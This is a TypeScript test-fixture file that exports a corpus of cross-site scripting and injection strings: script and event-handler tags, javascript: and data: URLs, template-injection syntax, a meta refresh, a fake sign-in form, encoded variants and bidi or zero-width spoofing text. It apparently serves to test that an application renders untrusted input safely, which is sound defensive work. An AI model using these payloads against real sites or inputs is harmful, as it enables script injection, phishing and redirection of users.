/**
 * Text that would do something if it were ever taken for anything but text. Whatever it makes has the class `trap`,
 * whatever it runs raises an alert, and whatever it loads comes from `trap.example`. None is longer than a token's name.
 */

const BIDI = "\u202e\u2066\u202d";
const ZERO_WIDTH = "\u200b\u200d\ufeff\u2060";

export const PAYLOADS: readonly string[] = [
  "<script class=trap>alert(1)</script>",
  '"><script class=trap src=//trap.example/a.js></script>',
  "</title></textarea></style></script><img class=trap src=x onerror=alert(2)>",
  "<!-- --><img class=trap src=//trap.example/b.png onload=alert(3)><!--",
  "<svg class=trap onload=alert(4)><script>alert(4)</script></svg>",
  "<svg class=trap><foreignObject><iframe srcdoc='<script>alert(5)</script>'></svg>",
  "<iframe class=trap src=javascript:alert(6)></iframe>",
  "<object class=trap data='data:text/html,<script>alert(7)</script>'></object>",
  "<a class=trap href=javascript:alert(8) autofocus onfocus=alert(8) tabindex=0>look</a>",
  "<details class=trap open ontoggle=alert(9)>more",
  "<input class=trap autofocus onfocus=alert(10)><video class=trap src=x onerror=alert(10)>",
  "<style class=trap>@import '//trap.example/c.css'; .row{display:none}</style>",
  "<link class=trap rel=stylesheet href=//trap.example/d.css><base class=trap href=//trap.example/>",
  "<meta class=trap http-equiv=refresh content='0;url=//trap.example/e'>",
  "<form class=trap action=//trap.example/f><button>Sign in again</button></form>",
  "<math class=trap><mtext><img src=x onerror=alert(11)></mtext></math>",
  "javascript:alert(12)//\"';alert(12)//",
  "[look](javascript:alert(13)) ![](//trap.example/g.png) <//trap.example/h>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the syntax of many templates
  "{{constructor.constructor('alert(15)')()}} ${alert(15)} #{alert(15)} <%= alert(15) %>",
  '" onmouseover=alert(16) onfocus=alert(16) style=position:fixed;inset:0 class=trap x="',
  "&lt;img class=trap src=x onerror=alert(17)&gt; &#60;b class=trap&#62; &amp;lt;",
  "\\u003cscript\\u003ealert(18)\\u003c/script\\u003e %3Cscript%3Ealert(18)%3C/script%3E",
  `${BIDI}<b class=trap>txt.exe${ZERO_WIDTH}a${ZERO_WIDTH}`,
  `${"Z\u0351\u036b\u0343".repeat(20)}<b class=trap>`,
  "W".repeat(100),
];

/** How a label may look at worst, for it has letters only. */
export const LABEL = `constructor_${"w".repeat(38)}`;
